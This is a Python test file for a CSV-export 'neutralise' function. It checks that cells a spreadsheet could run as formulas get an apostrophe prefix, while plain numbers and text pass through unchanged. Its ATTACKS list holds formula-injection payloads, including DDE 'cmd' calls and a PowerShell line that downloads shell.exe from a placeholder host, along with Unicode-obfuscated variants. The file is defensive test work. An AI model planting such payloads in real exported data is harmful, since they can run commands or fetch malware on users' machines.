"""No cell that leaves the program starts a formula."""

import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tieback.table.neutral import neutralise

SHARED = Path(__file__).resolve().parents[2] / "../shared/vectors"
ATTACKS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "=cmd|'/C powershell IEX(wget example.invalid/shell.exe)'!A0",
    '  =HYPERLINK("http://example.invalid")',
    "\t=1",
    "\r=1",
    "\n=1",
    "\x00=1",
    "＝1+1",
    "＋1+1a",
    "－1+1",
    "＠SUM(A1)",
    "\u3000=1",
    "\u200b=1",
    "\ufeff=1",
    "\u00ad@A1",
    "-A1",
    "–2+3",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_what_a_spreadsheet_could_run_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "-5",
        "+5",
        "-1,200.5",
        "12.5%",
        "-0.001",
        "EXAMPLE Mill",
        "a=b",
        "1-2",
        "新疆",
        "'=1",
        "e@example.invalid",
    ],
)
def test_numbers_and_plain_text_stay(text: str) -> None:
    assert neutralise(text) == text


@given(st.text(max_size=30))
def test_neutralising_twice_changes_nothing_more(text: str) -> None:
    once = neutralise(text)
    assert neutralise(once) == once
    assert once.endswith(text)


@pytest.mark.shared
def test_published_payloads_are_all_neutralised() -> None:
    folder = SHARED / "csv-injection"
    if not folder.is_dir():
        pytest.skip("shared vectors are absent")
    text = "".join(path.read_text("utf-8") for path in sorted(folder.glob("*.md")))
    payloads = [
        line.strip()
        for block in re.findall(r"```\w*\n(.*?)```", text, re.DOTALL)
        for line in block.splitlines()
    ]
    dangerous = [line for line in payloads if line and line[0] in "=+-@–"]
    assert len(dangerous) > 10
    assert all(neutralise(line) == "'" + line for line in dangerous)


@pytest.mark.shared
def test_naughty_strings_are_neutralised_once_at_most() -> None:
    path = SHARED / "naughty/blns.json"
    if not path.is_file():
        pytest.skip("shared vectors are absent")
    for text in json.loads(path.read_text("utf-8")):
        assert neutralise(neutralise(text)) == neutralise(text)
        assert neutralise(text) in {text, "'" + text}
